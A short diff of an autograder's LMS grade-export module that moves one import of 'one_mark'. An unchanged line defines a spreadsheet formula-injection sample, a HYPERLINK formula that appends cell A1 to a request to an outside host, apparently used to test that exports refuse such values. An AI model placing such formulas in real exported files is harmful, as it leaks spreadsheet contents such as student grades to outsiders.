@@ -15,9 +15,8 @@ from autograder.core.errors import ExportRefused
 from autograder.nbgrader_adapter.gradebook import recorded_beside
 from autograder.report.lms.canvas import Canvas
 from autograder.report.lms.csv_cells import identifier, text, write
-from autograder.report.lms.editions import one_mark
 from autograder.report.lms.moodle import Moodle
-from autograder.report.lms.sheets import LmsStudent, Mark, PartMark, Sheet, Table
+from autograder.report.lms.sheets import LmsStudent, Mark, PartMark, Sheet, Table, one_mark
 
 EXPORTS = "autograder.nbgrader_adapter.exports"
 EVIL = '=HYPERLINK("http://example.org?"&A1)'
